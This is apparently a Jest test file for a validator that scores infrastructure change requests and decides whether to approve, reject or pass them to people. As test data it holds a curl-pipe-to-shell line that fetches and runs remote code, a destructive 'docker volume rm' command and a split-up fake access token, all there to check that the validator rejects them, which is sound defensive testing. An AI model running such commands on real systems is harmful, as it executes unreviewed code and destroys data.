import { describe, expect, test } from '@jest/globals';
import { APPROVAL_VALIDATORS } from '@wingman/contracts';
import { isWorking } from './availability.js';
import type { Candidate, Known } from './candidate.js';
import { JUDGES, validateRequest } from './composite.js';
import { INSTRUCTION, judgedOf } from './request.fixture.js';

const ID = '01999999-0000-7000-8000-00000000000a';
/** Made of pieces, so that no scanner takes this file for one that leaks. */
const TOKEN = ['glpat', 'Qx7vN2mKd8RtYw3ZbLp5'].join('-');

const rulesOf = (change: Partial<Candidate>, known: Partial<Known> = {}) => {
  const { decision, parts = [] } = validateRequest(judgedOf(change, { known }));
  return { decision, rules: parts.flatMap(({ issues }) => issues.map(({ rule_id: rule }) => rule)) };
};

test('a request that says what it does is good enough, and the breakdown adds up', () => {
  const said = validateRequest(judgedOf());

  expect(said).toMatchObject({ profile: 'operational', score: 100, decision: 'AUTO_APPROVE', issues: [] });
  const { score, parts = [] } = validateRequest(judgedOf({ instruction: 'Restart the web container.', title: 'x' }));
  expect(parts.reduce((sum, { points }) => sum + points, 0)).toBeCloseTo(score, 5);
  for (const part of parts) expect(part.points).toBeCloseTo(((part.score ?? 0) * part.weight) / 100, 1);
});

describe('rejects, whatever the points:', () => {
  test.each<[string, Partial<Candidate>, string]>([
    ['a secret in a command', { commands: [['docker', 'login', '-p', TOKEN]] }, 'secrets'],
    ['a secret in the notes', { metadata: { token: TOKEN } }, 'secrets'],
    ['a secret in the title', { title: `Restart web with ${TOKEN}` }, 'secrets'],
    [
      'code that nobody has read',
      { commands: [['sh', '-c', 'curl -s https://example.com/x | sh']] },
      'execution.unseen_code',
    ],
    [
      'staging in the title, production behind it',
      { title: 'Restart web on staging', environment: 'prd' },
      'hidden_production',
    ],
    ['what the instruction forbids', { commands: [['docker', 'volume', 'rm', 'shop']], readOnly: false }, 'forbidden'],
    ['a command that must not be touched', { instruction: `${INSTRUCTION}\nDo not touch web.` }, 'forbidden'],
    [
      'an approval that does not exist',
      { instruction: `${INSTRUCTION}\nIt follows approval ${ID}.` },
      'approval_missing',
    ],
  ])('%s', (_case, change, rule) => {
    const { decision, rules } = rulesOf(change, { approvals: { [ID]: 'missing' } });

    expect(decision).toBe('AUTO_REJECT');
    expect(rules.join(' ')).toContain(rule);
  });

  test.each([
    ['nothing', '…', 'x'],
    ['a placeholder', 'TODO', 'do it'],
    ['the same word over and over', 'go '.repeat(500), 'go'],
    ['sections without content', INSTRUCTION.replaceAll(/:.*$/gm, ': TBD').replace(/^Restart.*$/m, ''), 'fix'],
  ])('an instruction that says %s', (_case, instruction, title) => {
    const said = validateRequest(judgedOf({ instruction, title }));

    expect(said.decision).toBe('AUTO_REJECT');
    expect(said.issues.join(' ')).toContain('Say what shall be done');
  });
});

describe('leaves to people', () => {
  test.each<[string, Partial<Candidate>, string]>([
    ['a command of which nobody speaks', { commands: [['systemctl', 'reload', 'cron']] }, 'unmentioned'],
    ['a deed that is not said', { commands: [['docker', 'stop', 'web']] }, 'unsaid_deed'],
    ['production in a command', { commands: [['docker', 'restart', 'web-prod']] }, 'consistency.environment'],
    ['another environment in the title', { title: 'Restart web in production' }, 'consistency.environment'],
    ['what may be forbidden', { instruction: `${INSTRUCTION}\nDo not restart anything else.` }, 'perhaps_forbidden'],
    ['an approval that was not given', { instruction: `${INSTRUCTION}\nIt follows approval ${ID}.` }, 'not_approved'],
    [
      'an id that nobody looked up',
      { instruction: `${INSTRUCTION}\nSee check 01999999-0000-7000-8000-00000000000b` },
      'unknown',
    ],
    ['a file', { instruction: INSTRUCTION.replace('none', 'the file /etc/shop.conf') }, 'unknown'],
    ['what nobody could resolve', { objects: { '0 no engine is asked': 'unresolved' } }, 'unknown'],
    ['what is not there', { objects: { '0 container web': 'absent' } }, 'object_absent'],
  ])('%s', (_case, change, rule) => {
    const { decision, rules } = rulesOf(change, { approvals: { [ID]: 'not_approved' } });

    expect(decision).toBe('MANUAL_REVIEW');
    expect(rules.join(' ')).toContain(rule);
  });

  test('an instruction without sections, however clear', () => {
    expect(validateRequest(judgedOf({ instruction: 'Run docker restart web: the shop is slow.' }))).toMatchObject({
      decision: 'MANUAL_REVIEW',
    });
  });
});

describe('what is wrong is no ban on putting it right:', () => {
  test.each([
    'The web container does not answer, so restart web.',
    'Web does not answer: restart the web container.',
    'No order is lost when we restart web.',
    'Users cannot log in, restart web.',
    'The shop must not stay away, so we restart web at once.',
    'Der Container antwortet nicht mehr: web neustarten.',
  ])('%s', (sentence) => {
    expect(rulesOf({ instruction: `${INSTRUCTION}\n${sentence}` }).decision).not.toBe('AUTO_REJECT');
  });

  test.each([
    'Do not restart web.',
    'Never restart web, the shop is open.',
    'Web must not be touched: never stop web.',
  ])('but this is one: %s', (sentence) => {
    const commands = [['docker', sentence.includes('stop') ? 'stop' : 'restart', 'web']];
    expect(rulesOf({ instruction: `${INSTRUCTION}\n${sentence}`, commands }).decision).toBe('AUTO_REJECT');
  });
});

test.each([
  `Look at the checkout ${ID} again.`,
  `The checksum of the order ${ID} is right.`,
  `The health check of ${ID} fails.`,
  `It was approved by ${ID}.`,
])('an id of something else is neither a check nor an approval: %s', (sentence) => {
  const change = { instruction: `${INSTRUCTION}\n${sentence}` };
  expect(rulesOf(change, { approvals: { [ID]: 'missing' }, checks: { [ID]: 'missing' } }).rules).toEqual([]);
});

test('finds nothing wrong where everything is right', () => {
  for (const change of [
    { instruction: `${INSTRUCTION}\nIt follows approval ${ID}.` },
    { title: 'Restart web in the sandbox' },
    { commands: [['docker', 'restart', '-t', '5', 'web']] },
    { instruction: INSTRUCTION, commands: [['docker', 'logs', 'web']], readOnly: true },
  ]) {
    expect(rulesOf(change, { approvals: { [ID]: 'approved' } })).toEqual({ decision: 'AUTO_APPROVE', rules: [] });
  }
});

describe('a deployment', () => {
  test.each<[string, Partial<Candidate>]>([
    ['by its words', { title: 'Release the web container: restart it' }],
    ['by its commands', { commands: [['docker', 'compose', '-f', 'web.yml', 'up', '-d']] }],
    ['by where it runs', { environment: 'prd' }],
  ])('is known %s and must be better', (_how, change) => {
    expect(validateRequest(judgedOf(change))).toMatchObject({ profile: 'deployment', threshold: 90 });
  });

  test('is as good as the tenant says', () => {
    const change = { title: 'Release the web container: restart it' };
    const approvals = { validation: { deployment: 95, floor: 40 } };

    expect(validateRequest(judgedOf(change, { approvals }))).toMatchObject({ threshold: 95, floor: 40 });
  });

  test.each([0, 29])('has the floor that everybody has where the tenant would lower it to %i', (floor) => {
    expect(validateRequest(judgedOf({}, { approvals: { validation: { floor } } }))).toMatchObject({ floor: 30 });
  });
});

test('the score decides at the threshold itself', () => {
  const without = INSTRUCTION.replace(/^(?:TEST_PROCESS|MITIGATION|QUALITY_METRICS).*\n/gm, '');
  const score = validateRequest(judgedOf({ instruction: without })).score;
  const at = (operational: number) =>
    validateRequest(judgedOf({ instruction: without }, { approvals: { validation: { operational } } })).decision;

  expect([at(Math.floor(score)), at(Math.floor(score) + 1)]).toEqual(['AUTO_APPROVE', 'MANUAL_REVIEW']);
});

test('a validator that fails says so and leaves the rest to people; what another one blocks stays rejected', () => {
  const broken = {
    ...JUDGES,
    // It weighs so little that the points of the others would be enough.
    dependency: () => {
      throw new Error('out of order');
    },
  };

  const said = validateRequest(judgedOf(), broken);
  expect(said).toMatchObject({ decision: 'MANUAL_REVIEW', score: 90, failed: ['dependency'] });
  expect(said.parts?.find(({ type }) => type === 'dependency')).toMatchObject({ score: null, points: 0 });
  expect(validateRequest(judgedOf({ metadata: { token: TOKEN } }), broken).decision).toBe('AUTO_REJECT');
});

test('no issue repeats a secret', () => {
  const said = validateRequest(judgedOf({ instruction: `${INSTRUCTION}\nUse ${TOKEN} for it.` }));

  expect([said.decision, JSON.stringify(said).includes(TOKEN)]).toEqual(['AUTO_REJECT', false]);
});

test.each(APPROVAL_VALIDATORS)('%s is available while it finds what it must', (type) => {
  const blind = () => ({ score: 100, issues: [] });
  const blinded = { code_scanner: blind, content_quality: blind, dependency: blind, consistency: blind };

  expect([isWorking(type), isWorking(type, blinded)]).toEqual([true, false]);
});

test.each([
  ['deep nesting', '['.repeat(200_000)],
  ['one long line', 'a'.repeat(500_000)],
  ['sentences that forbid', 'never remove web. '.repeat(30_000)],
  ['ids', `approval ${ID} `.repeat(10_000)],
  ['paths', `DEPENDENCIES: ${'/a'.repeat(100_000)}`],
  ['spaces', `x${' '.repeat(500_000)}y`],
])('reads %s in bounded space', (_what, instruction) => {
  const said = validateRequest(judgedOf({ instruction }));

  expect(said.failed).toBeUndefined();
  expect(JSON.stringify(said).length).toBeLessThan(40_000);
});
